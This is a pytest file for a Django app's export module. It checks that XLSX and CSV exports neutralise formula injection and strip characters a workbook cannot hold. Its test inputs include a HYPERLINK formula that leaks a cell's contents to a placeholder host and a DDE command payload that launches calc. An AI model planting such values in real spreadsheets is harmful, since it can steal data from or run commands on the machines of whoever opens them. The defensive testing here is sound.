"""Files that leave the house: what a stranger wrote into them calculates nowhere."""

import io

import pytest
from django.http.response import HttpResponseBase
from openpyxl import load_workbook

from lianxin.ui import exports

pytestmark = pytest.mark.filterwarnings("ignore:Workbook contains no default style")

TRICK = '=HYPERLINK("http://example.invalid/?x="&A2,"点我")'


def _body(response: HttpResponseBase) -> bytes:
    """The whole file, sent in one or in pieces."""
    return b"".join(iter(response))  # type: ignore[call-overload]


@pytest.mark.parametrize("trick", [TRICK, "+1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "-2+3"])
def test_a_header_that_came_with_a_file_is_defused_like_a_cell(trick: str) -> None:
    packed = exports.file_response("xlsx", "退回的行", [trick, "地点"], [[trick, "青枫"]])
    sheet = load_workbook(io.BytesIO(_body(packed))).active
    assert sheet is not None
    for row in sheet.iter_rows():
        assert row[0].data_type == "s"
        assert not str(row[0].value).startswith(("=", "+", "@", "-", "\t"))
    plain = exports.file_response("csv", "退回的行", [trick], [[trick]])
    assert all(line.lstrip('"').startswith("'") for line in _body(plain).decode("utf-8-sig").splitlines())


def test_a_sign_that_no_workbook_may_hold_does_not_cost_the_export() -> None:
    packed = exports.file_response("xlsx", "退回的行", ["内容\x0b"], [["井盖\x00坏了\x1b"]])
    sheet = load_workbook(io.BytesIO(_body(packed))).active
    assert sheet is not None
    assert [cell.value for row in sheet.iter_rows() for cell in row] == ["内容", "井盖坏了"]
